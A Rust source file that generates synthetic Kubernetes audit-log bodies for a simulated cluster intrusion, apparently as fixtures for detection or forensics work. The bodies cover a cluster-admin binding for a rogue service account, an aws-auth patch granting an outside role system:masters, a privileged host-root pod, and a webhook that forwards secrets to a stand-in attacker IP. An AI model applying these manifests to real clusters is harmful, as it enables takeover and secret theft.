//! The request and response bodies of the story's writes, as the API server records them.
//! Templates carry `@NAME@` placeholders filled in at build time.

use super::{ATTACKER_IP, DEVELOPER, OUTSIDE_ROLE};

pub(crate) const ROGUE_SA_UID: &str = "6f1d2a9c-3b7e-4c55-9a0e-2d8f7c1b4e63";
pub(crate) const ROGUE_POD: &str = "node-health-agent-6xq2m";

fn fill(template: &str, pairs: &[(&str, &str)]) -> String {
    let mut text = template.to_owned();
    for (key, value) in pairs {
        text = text.replace(key, value);
    }
    text
}

/// `kubectl auth whoami`: the request is empty, the answer is the caller as authenticated.
pub(crate) fn self_subject_review(user_json: &str) -> (String, String) {
    let req = r#"{"kind":"SelfSubjectReview","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"status":{"userInfo":{}}}"#;
    let resp = fill(
        r#"{"kind":"SelfSubjectReview","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":"2026-11-02T07:02:14Z"},"status":{"userInfo":@USER@}}"#,
        &[("@USER@", user_json)],
    );
    (req.to_owned(), resp)
}

/// `kubectl auth can-i --list -n <ns>`; in `ci` the answer shows the `edit` role.
pub(crate) fn self_subject_rules_review(ns: &str, at: &str) -> (String, String) {
    let req = fill(
        r#"{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"@NS@"},"status":{"resourceRules":null,"nonResourceRules":null,"incomplete":false}}"#,
        &[("@NS@", ns)],
    );
    let edit = if ns == "ci" {
        r#"{"verbs":["create","delete","deletecollection","patch","update","get","list","watch"],"apiGroups":[""],"resources":["configmaps","secrets","serviceaccounts","pods","pods/exec","services"]},{"verbs":["create","delete","deletecollection","patch","update","get","list","watch"],"apiGroups":["apps"],"resources":["deployments","statefulsets","replicasets"]},"#
    } else {
        ""
    };
    let resp = fill(
        r#"{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":"@AT@"},"spec":{},"status":{"resourceRules":[@EDIT@{"verbs":["create"],"apiGroups":["authorization.k8s.io"],"resources":["selfsubjectaccessreviews","selfsubjectrulesreviews"]},{"verbs":["create"],"apiGroups":["authentication.k8s.io"],"resources":["selfsubjectreviews"]},{"verbs":["get","list","watch"],"apiGroups":[""],"resources":["configmaps","endpoints","persistentvolumeclaims","pods","pods/log","replicationcontrollers","services","namespaces"]},{"verbs":["get","list","watch"],"apiGroups":["apps"],"resources":["daemonsets","deployments","replicasets","statefulsets"]},{"verbs":["get","list","watch"],"apiGroups":["batch"],"resources":["cronjobs","jobs"]}],"nonResourceRules":[{"verbs":["get"],"nonResourceURLs":["/api","/api/*","/apis","/apis/*","/healthz","/livez","/openapi","/openapi/*","/readyz","/version","/version/"]}],"incomplete":false}}"#,
        &[("@AT@", at), ("@EDIT@", edit)],
    );
    (req, resp)
}

pub(crate) fn service_account() -> (String, String) {
    let req = r#"{"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":"node-health-agent","namespace":"kube-system","creationTimestamp":null}}"#;
    let resp = fill(
        r#"{"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":"node-health-agent","namespace":"kube-system","uid":"@UID@","resourceVersion":"50412207","creationTimestamp":"2026-11-02T07:21:18Z"}}"#,
        &[("@UID@", ROGUE_SA_UID)],
    );
    (req.to_owned(), resp)
}

pub(crate) fn cluster_role_binding() -> (String, String) {
    let req = r#"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"node-health-agent","creationTimestamp":null},"subjects":[{"kind":"ServiceAccount","name":"node-health-agent","namespace":"kube-system"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}"#;
    let resp = r#"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"node-health-agent","uid":"b3e7a1d4-5c2f-4e8b-9d6a-0f4c3b2a1e57","resourceVersion":"50412519","creationTimestamp":"2026-11-02T07:22:41Z","managedFields":[{"manager":"kubectl-create","operation":"Update","apiVersion":"rbac.authorization.k8s.io/v1","time":"2026-11-02T07:22:41Z","fieldsType":"FieldsV1","fieldsV1":{"f:roleRef":{},"f:subjects":{}}}]},"subjects":[{"kind":"ServiceAccount","name":"node-health-agent","namespace":"kube-system"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}"#;
    (req.to_owned(), resp.to_owned())
}

const NODE_ROLE_MAPPING: &str = "- groups:\\n  - system:bootstrappers\\n  - system:nodes\\n  rolearn: arn:aws:iam::111122223333:role/atlas-prod-nodegroup-role\\n  username: system:node:{{EC2PrivateDNSName}}\\n";

/// `kubectl edit configmap aws-auth`: the patch adds one role mapping with `system:masters`.
pub(crate) fn aws_auth_patch() -> (String, String) {
    let added = fill(
        "- groups:\\n  - system:masters\\n  rolearn: @ROLE@\\n  username: ops-support\\n",
        &[("@ROLE@", OUTSIDE_ROLE)],
    );
    let map_roles = format!("{NODE_ROLE_MAPPING}{added}");
    let req = fill(
        r#"{"data":{"mapRoles":"@ROLES@"}}"#,
        &[("@ROLES@", map_roles.as_str())],
    );
    let resp = fill(
        r#"{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"aws-auth","namespace":"kube-system","uid":"0c6e2a8f-4b1d-4d3e-9f5a-7c2b8e4d6a10","resourceVersion":"50413877","creationTimestamp":"2026-03-09T15:27:03Z","managedFields":[{"manager":"eksctl","operation":"Update","apiVersion":"v1","time":"2026-09-14T11:02:19Z","fieldsType":"FieldsV1","fieldsV1":{"f:data":{".":{},"f:mapUsers":{}}}},{"manager":"kubectl-edit","operation":"Update","apiVersion":"v1","time":"2026-11-02T07:34:51Z","fieldsType":"FieldsV1","fieldsV1":{"f:data":{"f:mapRoles":{}}}}]},"data":{"mapRoles":"@ROLES@","mapUsers":"- groups:\n  - developers\n  userarn: arn:aws:iam::111122223333:user/@DEV@\n  username: @DEV@\n"}}"#,
        &[("@ROLES@", map_roles.as_str()), ("@DEV@", DEVELOPER)],
    );
    (req, resp)
}

const POD_SPEC: &str = r#""containers":[{"name":"agent","image":"docker.io/library/alpine:3.20","command":["nsenter","--target","1","--mount","--uts","--ipc","--net","--pid","--","sleep","infinity"],"resources":{},"volumeMounts":[{"name":"host-root","mountPath":"/host"}@TOKENMOUNT@],"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true}}],"restartPolicy":"Always","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","serviceAccountName":"node-health-agent","serviceAccount":"node-health-agent","nodeName":"@NODE@","hostNetwork":true,"hostPID":true,"securityContext":{},"schedulerName":"default-scheduler","tolerations":[{"operator":"Exists"}]@DEFAULTS@"#;

/// The privileged pod: host network and PID namespace, privileged, the node's `/` mounted.
pub(crate) fn privileged_pod(node: &str) -> (String, String) {
    let host_root = r#"{"name":"host-root","hostPath":{"path":"/","type":""}}"#;
    let spec_req = fill(
        POD_SPEC,
        &[("@TOKENMOUNT@", ""), ("@NODE@", node), ("@DEFAULTS@", "")],
    );
    let req = format!(
        r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"{ROGUE_POD}","namespace":"kube-system","creationTimestamp":null,"labels":{{"app":"node-health-agent"}}}},"spec":{{"volumes":[{host_root}],{spec_req},"enableServiceLinks":true}},"status":{{}}}}"#
    );
    let token = r#"{"name":"kube-api-access-w8r4t","projected":{"sources":[{"serviceAccountToken":{"expirationSeconds":3607,"path":"token"}},{"configMap":{"name":"kube-root-ca.crt","items":[{"key":"ca.crt","path":"ca.crt"}]}},{"downwardAPI":{"items":[{"path":"namespace","fieldRef":{"apiVersion":"v1","fieldPath":"metadata.namespace"}}]}}],"defaultMode":420}}"#;
    let spec_resp = fill(
        POD_SPEC,
        &[
            (
                "@TOKENMOUNT@",
                r#",{"name":"kube-api-access-w8r4t","readOnly":true,"mountPath":"/var/run/secrets/kubernetes.io/serviceaccount"}"#,
            ),
            ("@NODE@", node),
            ("@DEFAULTS@", r#","priority":0"#),
        ],
    );
    let resp = format!(
        r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"{ROGUE_POD}","namespace":"kube-system","uid":"d8c4f2a1-7e3b-4a9d-8c5e-1b2f3a4d5e69","resourceVersion":"50415310","creationTimestamp":"2026-11-02T07:47:26Z","labels":{{"app":"node-health-agent"}},"managedFields":[{{"manager":"kubectl-create","operation":"Update","apiVersion":"v1","time":"2026-11-02T07:47:26Z","fieldsType":"FieldsV1","fieldsV1":{{"f:metadata":{{"f:labels":{{".":{{}},"f:app":{{}}}}}},"f:spec":{{"f:containers":{{"k:{{\"name\":\"agent\"}}":{{".":{{}},"f:command":{{}},"f:image":{{}},"f:securityContext":{{".":{{}},"f:privileged":{{}}}},"f:volumeMounts":{{}}}}}},"f:hostNetwork":{{}},"f:hostPID":{{}},"f:nodeName":{{}},"f:serviceAccountName":{{}},"f:tolerations":{{}},"f:volumes":{{}}}}}}}}]}},"spec":{{"volumes":[{host_root},{token}],{spec_resp},"enableServiceLinks":true,"preemptionPolicy":"PreemptLowerPriority"}},"status":{{"phase":"Pending","qosClass":"BestEffort"}}}}"#
    );
    (req, resp)
}

/// The webhook: every create or update of a secret or config map is sent to the intruder.
pub(crate) fn validating_webhook() -> (String, String) {
    let hook = fill(
        r#"{"name":"validate.node-health.io","clientConfig":{"url":"https://@IP@:8443/validate"},"rules":[{"operations":["CREATE","UPDATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["secrets","configmaps"],"scope":"*"}],"failurePolicy":"Ignore","matchPolicy":"Equivalent","namespaceSelector":{},"objectSelector":{},"sideEffects":"None","timeoutSeconds":5,"admissionReviewVersions":["v1"]}"#,
        &[("@IP@", ATTACKER_IP)],
    );
    let req = format!(
        r#"{{"kind":"ValidatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{{"name":"node-health-policy","creationTimestamp":null}},"webhooks":[{hook}]}}"#
    );
    let resp = format!(
        r#"{{"kind":"ValidatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{{"name":"node-health-policy","uid":"a9e3c7b1-2d4f-4e6a-8b0c-5d7e9f1a3c24","resourceVersion":"50417942","generation":1,"creationTimestamp":"2026-11-02T08:21:33Z","managedFields":[{{"manager":"kubectl-create","operation":"Update","apiVersion":"admissionregistration.k8s.io/v1","time":"2026-11-02T08:21:33Z","fieldsType":"FieldsV1","fieldsV1":{{"f:webhooks":{{".":{{}},"k:{{\"name\":\"validate.node-health.io\"}}":{{}}}}}}}}]}},"webhooks":[{hook}]}}"#
    );
    (req, resp)
}

pub(crate) fn delete_role_binding() -> (String, String) {
    let req = r#"{"kind":"DeleteOptions","apiVersion":"rbac.authorization.k8s.io/v1","propagationPolicy":"Background"}"#;
    let resp = r#"{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"developers-edit","group":"rbac.authorization.k8s.io","kind":"rolebindings","uid":"e4a8c2f6-1d3b-4f5e-8a7c-9b0d2e4f6a81"}}"#;
    (req.to_owned(), resp.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parses(text: &str) -> serde_json::Value {
        serde_json::from_str(text).unwrap_or_else(|e| panic!("{e}: {text}"))
    }

    #[test]
    fn every_body_is_json() {
        let bodies = [
            self_subject_review(r#"{"username":"x","groups":[]}"#),
            self_subject_rules_review("ci", "2026-11-02T07:04:40Z"),
            self_subject_rules_review("default", "2026-11-02T07:02:31Z"),
            service_account(),
            cluster_role_binding(),
            aws_auth_patch(),
            privileged_pod("ip-10-0-1-1.ec2.internal"),
            validating_webhook(),
            delete_role_binding(),
        ];
        for (req, resp) in bodies {
            parses(&req);
            parses(&resp);
        }
    }

    #[test]
    fn aws_auth_patch_maps_the_outside_role_to_masters() {
        let (req, resp) = aws_auth_patch();
        let roles = parses(&req)["data"]["mapRoles"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(roles.contains("rolearn: arn:aws:iam::444455556666:role/ops-support\n"));
        assert!(roles.contains("  - system:masters\n"));
        let stored = parses(&resp);
        assert_eq!(stored["data"]["mapRoles"].as_str(), Some(roles.as_str()));
        assert!(
            stored["data"]["mapUsers"]
                .as_str()
                .unwrap()
                .contains("priya.sharma")
        );
    }

    #[test]
    fn the_pod_is_privileged_with_the_host_root() {
        let (req, resp) = privileged_pod("ip-10-0-1-1.ec2.internal");
        for body in [parses(&req), parses(&resp)] {
            assert_eq!(body["spec"]["hostNetwork"], true);
            assert_eq!(
                body["spec"]["containers"][0]["securityContext"]["privileged"],
                true
            );
            assert_eq!(body["spec"]["volumes"][0]["hostPath"]["path"], "/");
        }
    }
}
